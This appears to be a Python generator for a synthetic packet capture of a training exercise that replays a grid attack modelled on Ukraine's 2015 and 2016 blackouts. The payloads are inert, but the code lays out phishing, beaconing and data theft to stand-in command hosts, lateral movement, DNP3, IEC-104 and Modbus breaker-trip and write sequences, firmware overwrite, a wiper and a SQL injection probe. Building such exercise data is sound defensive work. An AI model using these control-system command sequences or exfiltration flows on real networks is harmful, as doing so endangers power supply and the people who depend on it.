"""What happens in the exercise, part by part. Every part takes the capture and the time it begins (microseconds).

The order follows what was published of the attacks on Ukraine's power supply in 2015 and 2016 (ATT&CK campaigns C0028
and C0025, software S0604 and S0607): a mail with a workbook, a foothold, a look around, a move into the control
centre, commands to substations over DNP3, IEC 60870-5-104 and Modbus, converters' firmware, relays, a wiper.
Nothing that is sent works: programs are inert bytes, and every name says EXERCISE.
"""

import struct

from . import ics, net, office
from .net import HOUR, MILLISECOND, MINUTE, SECOND, TCP, address
from .smb2 import Session

DROP, COMMAND, TUNNEL = "203.0.113.66", "203.0.113.80", "198.51.100.23"
SENDER = "192.0.2.25"
COMMAND_NAME = "exercise-c2.example"

MAIL, NAMES, FILES, WORKSTATION = "10.10.20.25", "10.10.20.53", "10.10.20.5", "10.10.20.31"
SCADA, ENGINEERING, HISTORIAN, OPERATOR_STATIONS = "10.20.0.10", "10.20.0.11", "10.20.0.20", ["10.20.0.31", "10.20.0.32"]
UTILITY_C = "10.50.1.15"
WATER_B = "10.40.0.80"


class Substation:
    def __init__(self, number):
        self.number = number
        self.outstation, self.rtu = f"10.30.{number}.10", f"10.30.{number}.20"
        self.gateway, self.converter, self.relay = f"10.30.{number}.30", f"10.30.{number}.40", f"10.30.{number}.50"


SUBSTATIONS = [Substation(number) for number in (1, 2, 3)]


# --- everyday traffic -------------------------------------------------------------------------------------------

def polling(capture, at, rounds=3):
    """A control centre's day: DNP3 integrity polls, Modbus reads, IEC-104 interrogation. Reads only."""
    for station in SUBSTATIONS:
        poll_dnp3(capture, at, station, rounds)
        poll_modbus(capture, at + 2 * SECOND, station, rounds)
        poll_iec104(capture, at + 4 * SECOND, station, rounds)


def poll_dnp3(capture, at, station, rounds):
    tcp = TCP(capture, at, SCADA, station.outstation, 20000)
    for sequence in range(rounds):
        values = [110.0 + capture.random.random() for _ in range(3)]
        tcp.ask(ics.dnp3(ics.READ, ics.dnp3_class_poll(), source=1, destination=station.number, sequence=sequence))
        tcp.answer(ics.dnp3(
            ics.RESPONSE, ics.dnp3_measurements(values), source=station.number, destination=1, sequence=sequence,
            from_master=False))
        tcp.wait(15 * SECOND)
    tcp.close()


def poll_modbus(capture, at, station, rounds):
    tcp = TCP(capture, at, SCADA, station.gateway, 502)
    for transaction in range(rounds):
        function = (3, 4)[transaction % 2]
        values = [capture.random.randrange(1000) for _ in range(4)]
        tcp.ask(ics.modbus(transaction, 1, ics.modbus_read_request(function, 0, 4)))
        tcp.answer(ics.modbus(transaction, 1, ics.modbus_registers_response(function, values)))
        tcp.wait(15 * SECOND)
    tcp.close()


def poll_iec104(capture, at, station, rounds):
    tcp, link = TCP(capture, at, SCADA, station.rtu, 2404), ics.IEC104()
    tcp.ask(ics.STARTDT_ACT).answer(ics.STARTDT_CON)
    tcp.ask(link.frame(True, ics.C_IC_NA_1, ics.ACTIVATION, station.number, ics.information_object(0, 20)))
    tcp.answer(link.frame(False, ics.C_IC_NA_1, ics.ACTIVATION_CONFIRMED, station.number, ics.information_object(0, 20)))
    for round in range(rounds):
        value = ics.measured_value(100 + round, 50.0 + capture.random.random() / 10)
        tcp.answer(link.frame(False, ics.M_ME_NC_1, ics.SPONTANEOUS, station.number, value)).wait(10 * SECOND)
    tcp.close()


def office_morning(capture, at):
    """A workstation asks for names and reads the intranet; a file server hands out a report."""
    office.resolve(capture, at, WORKSTATION, NAMES, "intranet.exercise-grid-a.example", address("10.10.20.80"))
    tcp = TCP(capture, at + SECOND, WORKSTATION, "10.10.20.80", 80)
    tcp.ask(office.http_request("GET", "intranet.exercise-grid-a.example", "/EXERCISE/news.html", "EXERCISE-Browser/1.0"))
    tcp.answer(office.http_response(200, "OK", b"<html>EXERCISE</html>")).close()
    smb = Session(TCP(capture, at + 5 * SECOND, WORKSTATION, FILES, 445), "exercise-user", "EXERCISE", "WS31")
    smb.put("reports", "EXERCISE-daily-report.txt", b"EXERCISE: all feeders in service.\r\n")
    smb.tcp.close()


def switching_by_an_operator(capture, at):
    """One breaker opened for maintenance: a command that belongs to everyday work, and looks like any other."""
    operate(capture, at, SUBSTATIONS[0], [7], ics.LATCH_OFF).close()


# --- foothold ---------------------------------------------------------------------------------------------------

def phishing(capture, at):
    tcp = TCP(capture, at, SENDER, MAIL, 25)
    office.mail(
        tcp, "EXERCISE-ministry@exercise-ministry.example", "EXERCISE-dispatcher@exercise-grid-a.example",
        "EXERCISE: revised load-shedding table", "EXERCISE: please enable the macros to see the table.",
        "EXERCISE-load-table.xlsm", office.document("load-table", 3000))
    tcp.close()


def foothold(capture, at, workstation=WORKSTATION, names=NAMES):
    """The macro fetches a program, which then calls home."""
    office.resolve(capture, at, workstation, names, COMMAND_NAME, address(DROP))
    tcp = TCP(capture, at + SECOND, workstation, DROP, 80)
    tcp.ask(office.http_request("GET", COMMAND_NAME, "/EXERCISE-update.exe", "Microsoft Office/16.0 EXERCISE"))
    tcp.answer(office.http_response(200, "OK", office.program("update", 24_000), "application/x-msdownload")).close()


def beacons(capture, at, workstation=WORKSTATION, count=8, every=10 * MINUTE):
    for number in range(count):
        jitter = capture.random.randrange(20 * SECOND)
        tcp = TCP(capture, at + number * every + jitter, workstation, DROP, 80)
        body = f"EXERCISE id={workstation} n={number}".encode()
        tcp.ask(office.http_request("POST", COMMAND_NAME, "/EXERCISE/gate.php", "EXERCISE-Agent/3.1", body))
        tcp.answer(office.http_response(200, "OK", b"EXERCISE idle", "text/plain")).close()


def sealed_beacons(capture, at, workstation, count=3, every=30 * MINUTE):
    for number in range(count):
        tcp = TCP(capture, at + number * every, workstation, COMMAND, 443)
        office.tls_session(tcp, "cdn." + COMMAND_NAME, capture.random, [(220, 180)]).close()


def theft(capture, at):
    """Network drawings leave through the command channel."""
    tcp = TCP(capture, at, WORKSTATION, DROP, 80)
    body = b"EXERCISE single-line-diagrams.zip " * 400
    tcp.ask(office.http_request("POST", COMMAND_NAME, "/EXERCISE/upload.php", "EXERCISE-Agent/3.1", body))
    tcp.answer(office.http_response(200, "OK", b"EXERCISE ok", "text/plain")).close()


# --- into the control centre ------------------------------------------------------------------------------------

def scan(capture, at, source=ENGINEERING):
    """One SYN each to the ports of control protocols; most hosts refuse."""
    for station in SUBSTATIONS:
        for host in (station.outstation, station.rtu, station.gateway, station.converter):
            for port in (502, 2404, 20000):
                refused(capture, at, source, host, port)
                at += 40 * MILLISECOND


def refused(capture, at, client, server, port):
    """A SYN answered with a reset."""
    sport, number = capture.port(client), capture.random.getrandbits(31)
    for source, destination, ports, numbers, flags in [
        (client, server, (sport, port), (number, 0), net.SYN),
        (server, client, (port, sport), (0, number + 1), net.RST | net.ACK),
    ]:
        header = struct.pack("!HHIIBBHHH", *ports, *numbers, 5 << 4, flags, 64240, 0, 0)
        pseudo = address(source) + address(destination) + struct.pack("!BBH", 0, 6, len(header))
        header = header[:16] + struct.pack("!H", net.checksum(pseudo + header)) + header[18:]
        capture.ip(at, source, destination, 6, header)
        at += MILLISECOND


def lateral_movement(capture, at):
    """With stolen credentials: a service on the file server, then remote desktop into the control centre."""
    smb = Session(TCP(capture, at, WORKSTATION, FILES, 445), "exercise-admin", "EXERCISE", "WS31")
    smb.put("ADMIN$", "EXERCISE-PSEXESVC.exe", office.program("psexesvc", 6000))
    smb.run_as_service("EXERCISE-PSEXESVC", "%SystemRoot%\\EXERCISE-PSEXESVC.exe")
    smb.tcp.close()
    for number, target in enumerate([SCADA, ENGINEERING]):
        tcp = TCP(capture, at + (10 + 5 * number) * MINUTE, WORKSTATION, target, 3389)
        office.remote_desktop(tcp, "exercise-dispatcher", capture.random).close()


def tunnel(capture, at):
    tcp = TCP(capture, at, ENGINEERING, TUNNEL, 22)
    office.ssh_session(tcp, "PuTTY_Release_EXERCISE", "OpenSSH_EXERCISE", capture.random, 300).close()


def tool_transfer(capture, at):
    smb = Session(TCP(capture, at, WORKSTATION, ENGINEERING, 445), "exercise-admin", "EXERCISE", "WS31")
    smb.put("ADMIN$", "EXERCISE-104.dll", office.program("iec104-payload", 5000))
    smb.put("ADMIN$", "EXERCISE-crash.exe", office.program("loader", 5000))
    smb.run_as_service("EXERCISE-defragsvc", "%SystemRoot%\\EXERCISE-crash.exe")
    smb.tcp.close()


# --- the effect -------------------------------------------------------------------------------------------------

def operate(capture, at, station, points, operation, functions=(ics.SELECT, ics.OPERATE), master=SCADA):
    tcp = TCP(capture, at, master, station.outstation, 20000)
    sequence = 0
    for point in points:
        for function in functions:
            objects = ics.dnp3_relay(point, operation)
            tcp.ask(ics.dnp3(function, objects, source=1, destination=station.number, sequence=sequence))
            if function != ics.DIRECT_OPERATE_NO_ACK:
                tcp.answer(ics.dnp3(
                    ics.RESPONSE, objects, source=station.number, destination=1, sequence=sequence, from_master=False))
            sequence = (sequence + 1) % 16
        tcp.wait(900 * MILLISECOND)
    return tcp


def blackout_dnp3(capture, at):
    ways = [(ics.SELECT, ics.OPERATE), (ics.DIRECT_OPERATE,), (ics.DIRECT_OPERATE_NO_ACK,)]
    for number, (station, functions) in enumerate(zip(SUBSTATIONS, ways)):
        tcp = operate(capture, at + number * MINUTE, station, range(6), ics.TRIP, functions)
        for function in (ics.DISABLE_UNSOLICITED, ics.COLD_RESTART):
            objects = ics.dnp3_class_poll()[:9] if function == ics.DISABLE_UNSOLICITED else b""
            delay = bytes([52, 1, 0x07, 1, 30, 0]) if function == ics.COLD_RESTART else b""
            tcp.ask(ics.dnp3(function, objects, source=1, destination=station.number, sequence=14))
            tcp.answer(ics.dnp3(
                ics.RESPONSE, delay, source=station.number, destination=1, sequence=14, from_master=False))
        tcp.close()


def blackout_iec104(capture, at):
    """The engineering station becomes a master of its own and walks through the addresses of each RTU."""
    for number, station in enumerate(SUBSTATIONS):
        tcp, link = TCP(capture, at + number * 40 * SECOND, ENGINEERING, station.rtu, 2404), ics.IEC104()
        tcp.ask(ics.STARTDT_ACT).answer(ics.STARTDT_CON)
        for index in range(1, 9):
            kind, execute = (ics.C_SC_NA_1, 0x00) if index % 2 else (ics.C_DC_NA_1, 0x01)
            for octet in (0x80 | execute, execute):
                target = ics.information_object(index, octet)
                tcp.ask(link.frame(True, kind, ics.ACTIVATION, station.number, target))
                tcp.answer(link.frame(False, kind, ics.ACTIVATION_CONFIRMED, station.number, target))
            tcp.wait(300 * MILLISECOND)
        tcp.ask(link.frame(True, ics.C_RP_NA_1, ics.ACTIVATION, station.number, ics.information_object(0, 1)))
        tcp.ask(ics.STOPDT_ACT).answer(ics.STOPDT_CON).close()


def blackout_modbus(capture, at):
    for number, station in enumerate(SUBSTATIONS):
        tcp = TCP(capture, at + number * 20 * SECOND, ENGINEERING, station.gateway, 502)
        writes = [
            ics.modbus_write_coil(3, False), ics.modbus_write_register(40, 0),
            ics.modbus_write_coils(0, [False] * 10), ics.modbus_write_registers(100, [0, 0, 65535, 0]),
        ]
        for transaction, body in enumerate(writes):
            tcp.ask(ics.modbus(transaction, 1, body))
            tcp.answer(ics.modbus(transaction, 1, ics.modbus_write_response(body))).wait(500 * MILLISECOND)
        tcp.close()


def converters(capture, at):
    """New firmware for the serial converters, so that commands no longer reach the breakers."""
    for number, station in enumerate(SUBSTATIONS):
        tcp = TCP(capture, at + number * 30 * SECOND, ENGINEERING, station.converter, 80)
        body = office.program("converter-firmware", 8000)
        tcp.ask(office.http_request("POST", station.converter, "/EXERCISE/firmware/upload", "EXERCISE-Updater", body))
        tcp.answer(office.http_response(200, "OK", b"EXERCISE rebooting", "text/plain")).close()


def relays(capture, at):
    for station in SUBSTATIONS:
        capture.udp(at, ENGINEERING, capture.port(ENGINEERING), station.relay, 50000, b"EXERCISE-RELAY-DOS")
        at += 2 * SECOND


def wiper(capture, at):
    for number, target in enumerate([SCADA, HISTORIAN, *OPERATOR_STATIONS]):
        smb = Session(
            TCP(capture, at + number * MINUTE, ENGINEERING, target, 445), "exercise-admin", "EXERCISE", "ENG11")
        smb.put("ADMIN$", "EXERCISE-haslo.exe", office.program("wiper", 7000))
        smb.run_as_service("EXERCISE-haslo", "%SystemRoot%\\EXERCISE-haslo.exe")
        smb.tcp.close()


# --- something else -----------------------------------------------------------------------------------------------

def a_scanner_elsewhere(capture, at):
    """Another operator's web server is probed by a common tool: it has nothing to do with the rest."""
    for number in range(6):
        tcp = TCP(capture, at + number * SECOND, "192.0.2.199", WATER_B, 80)
        path = f"/EXERCISE/meter?id={number}%27%20OR%201=1"
        tcp.ask(office.http_request("GET", "www.exercise-water-b.example", path, "sqlmap/1.8 EXERCISE"))
        tcp.answer(office.http_response(404, "Not Found", b"EXERCISE")).close()


def tell(capture, start):
    """The whole exercise; `start` is midnight UTC of its first day, two weeks before the blackout."""
    day = 24 * HOUR
    polling(capture, start + 1 * HOUR)
    office_morning(capture, start + 1 * HOUR + 20 * MINUTE)
    phishing(capture, start + 2 * HOUR)
    foothold(capture, start + 2 * HOUR + 7 * MINUTE)
    beacons(capture, start + 2 * HOUR + 10 * MINUTE)
    a_scanner_elsewhere(capture, start + 3 * day + 5 * HOUR)
    switching_by_an_operator(capture, start + 4 * day + 3 * HOUR)
    theft(capture, start + 5 * day + 17 * HOUR)

    week = start + 7 * day
    polling(capture, week + 1 * HOUR, rounds=3)
    lateral_movement(capture, week + 15 * HOUR)
    sealed_beacons(capture, week + 15 * HOUR + 30 * MINUTE, ENGINEERING)
    scan(capture, week + 17 * HOUR)
    foothold(capture, week + 18 * HOUR, UTILITY_C, "10.50.1.53")
    beacons(capture, week + 18 * HOUR + 5 * MINUTE, UTILITY_C, count=3)
    tunnel(capture, week + 19 * HOUR)
    tool_transfer(capture, week + 19 * HOUR + 30 * MINUTE)

    blackout = start + 14 * day + 13 * HOUR
    polling(capture, blackout - 10 * MINUTE, rounds=3)
    blackout_dnp3(capture, blackout)
    blackout_iec104(capture, blackout + 30 * SECOND)
    blackout_modbus(capture, blackout + 4 * MINUTE)
    converters(capture, blackout + 9 * MINUTE)
    relays(capture, blackout + 12 * MINUTE)
    wiper(capture, blackout + 20 * MINUTE)
